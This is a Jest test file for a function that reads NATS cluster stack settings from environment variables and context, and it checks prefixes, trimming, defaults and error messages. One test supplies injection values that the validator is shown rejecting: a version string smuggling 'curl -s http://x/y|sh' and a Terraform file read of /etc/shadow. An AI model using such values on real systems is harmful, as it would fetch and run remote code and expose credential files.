import { envPrefix } from "../facts/env-prefix";
import { readStackSettings } from "../constructs/stack-config";

const STACKS = ["nats", "nats-tutorial"];

describe("readStackSettings", () => {
  test("environment variables are prefixed by the stack name", () => {
    expect(envPrefix("nats")).toBe("NATS_");
    expect(envPrefix("nats-tutorial")).toBe("NATS_TUTORIAL_");
  });

  test("reads every setting from the environment", () => {
    const env = {
      NATS_NODE_COUNT: "5",
      NATS_REGION: "fra1",
      NATS_SIZE: "s-2vcpu-2gb",
      NATS_IMAGE: "debian-12-x64",
      NATS_SSH_KEYS: "12345, ab:cd",
      NATS_CLIENT_PORT: "4223",
      NATS_MONITOR_PORT: "8223",
      NATS_CLUSTER_PORT: "6223",
      NATS_VERSION: "2.10.22",
      NATS_ADMIN_CIDRS: "203.0.113.0/24",
      NATS_CLIENT_CIDRS: "",
      NATS_READINESS_GATE: "false",
      NATS_NAME_PREFIX: "edge",
      NATS_TAG: "edge-nodes",
      NATS_LOAD_BALANCER_NAME: "edge-lb",
    };
    const read = readStackSettings("nats", undefined, env, STACKS);
    expect(read.problems).toEqual([]);
    expect(read.settings).toEqual({
      nodeCount: 5,
      region: "fra1",
      size: "s-2vcpu-2gb",
      image: "debian-12-x64",
      sshKeys: ["12345", "ab:cd"],
      clientPort: 4223,
      monitorPort: 8223,
      clusterPort: 6223,
      natsVersion: "2.10.22",
      adminCidrs: ["203.0.113.0/24"],
      readinessGate: false,
      namePrefix: "edge",
      tag: "edge-nodes",
      loadBalancerName: "edge-lb",
    });
    expect(read.sources).toMatchObject({ nodeCount: "NATS_NODE_COUNT", tag: "NATS_TAG" });
  });

  test("context is read, and the environment wins over it", () => {
    const read = readStackSettings("nats-tutorial", { nodeCount: 3, region: "ams3" }, { NATS_TUTORIAL_REGION: "sgp1" }, STACKS);
    expect(read.settings).toEqual({ nodeCount: 3, region: "sgp1" });
    expect(read.sources).toEqual({ nodeCount: "context nats-tutorial.nodeCount", region: "NATS_TUTORIAL_REGION" });
  });

  test("the other stack's variables are its own: neither read nor reported", () => {
    expect(readStackSettings("nats-tutorial", undefined, { NATS_NODE_COUNT: "5" }, STACKS)).toEqual({ settings: {}, sources: {}, problems: [] });
    expect(readStackSettings("nats", undefined, { NATS_TUTORIAL_NODE_COUNT: "5" }, STACKS)).toEqual({ settings: {}, sources: {}, problems: [] });
  });

  test("values are trimmed alike in the environment and in context", () => {
    const env = { NATS_REGION: "  fra1 ", NATS_NODE_COUNT: " 5 ", NATS_READINESS_GATE: " false ", NATS_SSH_KEYS: " 1 , 2 ,, " };
    expect(readStackSettings("nats", undefined, env, STACKS).settings).toEqual({ region: "fra1", nodeCount: 5, readinessGate: false, sshKeys: ["1", "2"] });
    expect(readStackSettings("nats", { region: "  fra1 ", sshKeys: [" 1 ", "2", " "] }, {}, STACKS).settings).toEqual({ region: "fra1", sshKeys: ["1", "2"] });
  });

  test("an empty value means not set, in the environment and in context alike: the default applies", () => {
    const env = { NATS_REGION: "", NATS_NODE_COUNT: "  ", NATS_READINESS_GATE: "", NATS_ADMIN_CIDRS: " , " };
    expect(readStackSettings("nats", undefined, env, STACKS)).toEqual({ settings: {}, sources: {}, problems: [] });
    expect(readStackSettings("nats", { region: " ", adminCidrs: [], sshKeys: [""] }, {}, STACKS)).toEqual({ settings: {}, sources: {}, problems: [] });
    // An empty variable does not hide a context value either: it is simply not set.
    expect(readStackSettings("nats", { region: "ams3" }, { NATS_REGION: "" }, STACKS).settings).toEqual({ region: "ams3" });
  });

  test("client, nats CLI and twin variables are not settings and are left alone", () => {
    const env = {
      NATS_URL: "nats://127.0.0.1:4222",
      NATS_SERVER: "nats://127.0.0.10:4222",
      NATS_CREDS: "/tmp/x.creds",
      NATS_TOKEN: "t",
      NATS_USER: "u",
      NATS_PASSWORD: "p",
      NATS_CONTEXT: "local",
      NATS_NKEY: "/tmp/k",
      NATS_CERT: "/tmp/c",
      NATS_KEY: "/tmp/k",
      NATS_CA: "/tmp/ca",
      NATS_TLS_SERVER_NAME: "nats.internal",
      NATS_TIMEOUT: "5s",
      NATS_TWIN_SECRET_CLUSTER_AUTH_CLIENT_SECRET_E03882C3: "s",
    };
    expect(readStackSettings("nats", undefined, env, STACKS)).toEqual({ settings: {}, sources: {}, problems: [] });
  });

  test("a misspelled variable or context key is an error naming the closest setting", () => {
    expect(readStackSettings("nats", undefined, { NATS_NODECOUNT: "5" }, STACKS).problems).toEqual([
      "NATS_NODECOUNT is not a setting: did you mean NATS_NODE_COUNT?",
    ]);
    expect(readStackSettings("nats", undefined, { NATS_TUTORIAL_REGON: "blr1" }, STACKS).problems).toEqual([]);
    expect(readStackSettings("nats-tutorial", undefined, { NATS_TUTORIAL_REGON: "blr1" }, STACKS).problems).toEqual([
      "NATS_TUTORIAL_REGON is not a setting: did you mean NATS_TUTORIAL_REGION?",
    ]);
    expect(readStackSettings("nats", undefined, { NATS_COLOUR: "blue" }, STACKS).problems).toEqual([
      expect.stringMatching(/^NATS_COLOUR is not a setting: expected one of NATS_NODE_COUNT, NATS_REGION, .*NATS_LOAD_BALANCER_NAME, NATS_JETSTREAM, NATS_VOLUME_SIZE_GIB, NATS_PROTECT_VOLUMES, NATS_STATE_BACKEND, NATS_STATE_BUCKET, NATS_STATE_REGION, NATS_STATE_KEY_PREFIX, NATS_STATE_SCHEMA$/),
    ]);
    expect(readStackSettings("nats", { nodecount: 5 }, {}, STACKS).problems).toEqual(["context nats.nodecount is not a setting: did you mean nodeCount?"]);
  });

  test("a setting with Terraform syntax, a token or a control character is rejected before any other check and not applied", () => {
    const env = {
      NATS_VERSION: '2.10.24"; curl -s http://x/y|sh; echo "${TfToken[TOKEN.1]}',
      NATS_REGION: 'nyc3 ${file("/etc/shadow")}',
      NATS_SIZE: "%{ for x in y }a%{ endfor }",
      NATS_NODE_COUNT: "3\n",
      NATS_SSH_KEYS: "12345,#{TfToken[TOKEN.2]}",
    };
    const read = readStackSettings("nats", { image: "ubuntu-24-04-x64\u001b[2J", adminCidrs: ["203.0.113.0/24", "${var.x}"] }, env, STACKS);
    expect(read.settings).toEqual({});
    expect(read.problems).toEqual([
      expect.stringMatching(/^NATS_NODE_COUNT "3\\n" contains a control or formatting character/),
      expect.stringMatching(/^NATS_REGION "nyc3 \$\{file\(.*contains Terraform syntax .* a setting is plain data$/),
      expect.stringMatching(/^NATS_SIZE ".*" contains Terraform syntax/),
      expect.stringMatching(/^context nats\.image ".*" contains a control or formatting character/),
      expect.stringMatching(/^NATS_SSH_KEYS ".*" contains Terraform syntax/),
      expect.stringMatching(/^NATS_VERSION ".*TfToken.*" contains Terraform syntax/),
      expect.stringMatching(/^context nats\.adminCidrs\[1\] "\$\{var\.x\}" contains Terraform syntax/),
    ]);
  });

  test("non-object context is an error", () => {
    for (const context of [5, "nodeCount=5", ["nodeCount"], null, true]) {
      expect(readStackSettings("nats", context, {}, STACKS).problems).toEqual([
        expect.stringMatching(/^context nats .* is not an object of settings such as \{ "nodeCount": 5 \}$/),
      ]);
    }
  });

  test("reports every bad value at once, naming its source", () => {
    const read = readStackSettings("nats", { nodes: 3, region: 7 }, { NATS_NODE_COUNT: "three", NATS_READINESS_GATE: "yes" }, STACKS);
    expect(read.problems).toEqual([
      expect.stringMatching(/^context nats\.nodes is not a setting: /),
      'NATS_NODE_COUNT "three" is not an integer',
      "context nats.region 7 is not a string",
      'NATS_READINESS_GATE "yes" is not a boolean: expected true or false',
    ]);
  });
});
